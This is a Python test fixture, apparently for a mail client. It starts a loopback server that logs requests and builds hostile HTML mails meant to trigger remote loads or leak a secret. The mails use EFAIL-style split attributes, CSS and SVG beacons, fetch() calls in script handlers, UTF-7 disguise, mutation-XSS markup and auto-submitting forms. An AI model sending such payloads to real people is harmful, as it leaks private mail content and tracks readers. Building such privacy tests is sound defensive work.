"""Mails that try to send a request when they are read, or to leak their text, and a server that records requests."""

from __future__ import annotations

import base64
import http.server
import threading
from collections.abc import Iterator
from contextlib import contextmanager

from tests.support.extension.mail_letters import file, html, mail, multipart, text

SECRET = "the secret of the letter"


class CountingServer:
    """A server on loopback. `asked`: the paths of its requests; `referrers`: their `Referer` fields."""

    def __init__(self, port: int) -> None:
        self.url = f"http://127.0.0.1:{port}"
        self.asked: list[str] = []
        self.referrers: list[str | None] = []


@contextmanager
def counting_server() -> Iterator[CountingServer]:
    """Run a `CountingServer`, which answers all requests with a small page."""

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            counting.asked.append(self.path)
            counting.referrers.append(self.headers.get("Referer"))
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(b"<link rel=icon href=data:,><title>here</title>")

        do_POST = do_GET

        def log_message(self, format: str, *args: object) -> None:
            """Write no log."""

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    counting = CountingServer(server.server_port)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        yield counting
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


def hostile_mails(url: str) -> dict[str, bytes]:
    """The mails by their attack. Each contains `SECRET` in a part with markup; `url` is the attacker's server."""
    mails = {name: mail(html(f"<p>{SECRET}</p>{markup.replace('URL', url)}")) for name, markup in _MARKUP.items()}
    # Direct exfiltration (EFAIL): one part opens the quotes of an attribute, the plaintext follows, another closes.
    before, after = html(f'<p>{SECRET}</p><img src="{url}/direct/'), html('"><p>end</p>')
    mails["direct"] = mail(multipart("mixed", html(f'<p>{SECRET}</p><img src="{url}/open/'), before, after))
    pointing = html(f'<p>{SECRET}</p><img src="cid:page@b"><iframe src="cid:page@b"></iframe>')
    page = file(
        "page.html",
        "text/html",
        f'<script src="{url}/cid.js"></script><img src="{url}/cid">'.encode(),
        content_id="page@b",
    )
    mails["cid to a page"] = mail(multipart("related", pointing, page))
    drawing = f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{url}/drawing"/></svg>'.encode()
    svg = file("d.svg", "image/svg+xml", drawing, content_id="d@b")
    mails["cid to a drawing"] = mail(multipart("related", html(f'<p>{SECRET}</p><img src="cid:d@b">'), svg))
    encoded = base64.b64encode(drawing).decode()
    mails["drawing as data"] = mail(html(f'<p>{SECRET}</p><img src="data:image/svg+xml;base64,{encoded}">'))
    disguised = b"Content-Type: text/html; charset=utf-7\r\n\r\n" + (
        f"<p>{SECRET}</p>+ADw-img src=+ACI-{url}/utf7+ACIAPg-".encode()
    )
    mails["another charset"] = mail(disguised)
    mails["a location of its own"] = mail(html(f'<base href="{url}/"><p>{SECRET}</p><img src="based">')).replace(
        b"MIME-Version", f"Content-Base: {url}/\r\nContent-Location: {url}/location\r\nMIME-Version".encode(), 1
    )
    mails["beside text"] = mail(multipart("mixed", text("before"), html(f'<p>{SECRET}</p><img src="{url}/mixed">')))
    return mails


# The attacks by markup. `URL` stands for the server's address.
_MARKUP = {
    "pictures": (
        '<img src="URL/img"><img srcset="URL/a 1x, URL/b 2x"><picture><source srcset="URL/c"><img>'
        '</picture><input type=image src="URL/d"><img lowsrc="URL/e" dynsrc="URL/f">'
        '<body background="URL/g"><table background="URL/h">'
    ),
    "styles": (
        '<style>@import "URL/i";@font-face{font-family:a;src:url(URL/j)}p{background:url("URL/k");'
        "font-family:a;cursor:url(URL/l),auto;list-style-image:url(URL/m)}p::after{content:url(URL/n)}"
        "</style><p style=\"background-image:image-set('URL/o' 1x);border-image:u\\72l(URL/p)\">x</p>"
        '<link rel=stylesheet href="URL/q">'
    ),
    "reading by styles": (
        '<style>p[title^="a"]{background:url(URL/r)}#s:target{background:url(URL/s)}</style><p title=a>a</p>'
    ),
    "going away": ('<meta http-equiv=refresh content="0;url=URL/t"><base href="URL/u"><a href="URL/v" autofocus>v</a>'),
    "forms": (
        '<form action="URL/w" method=post><input name=x value=y autofocus onfocus="this.form.submit()">'
        '<button formaction="URL/x">Read on</button></form><isindex action="URL/y">'
    ),
    "looking ahead": (
        '<link rel=prefetch href="URL/z"><link rel=preload as=image href="URL/aa">'
        '<link rel=prerender href="URL/ab"><link rel=dns-prefetch href="URL">'
        '<link rel=preconnect href="URL"><link rel=icon href="URL/ac">'
        '<link rel=modulepreload href="URL/ad">'
        '<script type=speculationrules>{"prefetch":[{"urls":["URL/ae"]}]}</script>'
    ),
    "frames and things": (
        '<iframe src="URL/af"></iframe><iframe srcdoc="<img src=URL/ag>"></iframe><object data="URL/ah">'
        '</object><embed src="URL/ai"><video src="URL/aj" poster="URL/ak"></video>'
        '<audio src="URL/al" autoplay></audio><frameset><frame src="URL/am"></frameset>'
        '<applet code="URL/an"></applet><portal src="URL/ao"></portal>'
    ),
    "drawings": (
        '<svg><image href="URL/ap"/><use href="URL/aq#x"/><style>*{fill:url(URL/ar#x)}</style>'
        '<a href="URL/as"><animate attributeName=href values="URL/at"/></a><foreignObject>'
        '<img src="URL/au"></foreignObject></svg><math><mglyph src="URL/av"/>'
        '<annotation-xml encoding="text/html"><img src="URL/aw"></annotation-xml></math>'
    ),
    "scripts": (
        '<script src="URL/ax"></script><img src=x onerror="fetch(\'URL/ay\')">'
        "<a href=\"javascript:location='URL/az'\">a</a><svg onload=\"fetch('URL/ba')\">"
        "<details open ontoggle=\"fetch('URL/bb')\">"
    ),
    "torn markup": (
        '<img src="URL/bc<p>torn</p><noscript><p title="</noscript><img src=URL/bd>"><textarea>'
        '<img src="URL/be"><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;'
        'img src=URL/bf&gt;">'
    ),
    "fresh elements": (
        '<template shadowrootmode=open><img src="URL/bg"></template><dialog open><img src="URL/bh">'
        '</dialog><a ping="URL/bi" href="URL/bj">p</a><q cite="URL/bk">q</q><img src="//127.0.0.1/bl">'
        '<img src="\\\\127.0.0.1\\bm">'
    ),
}
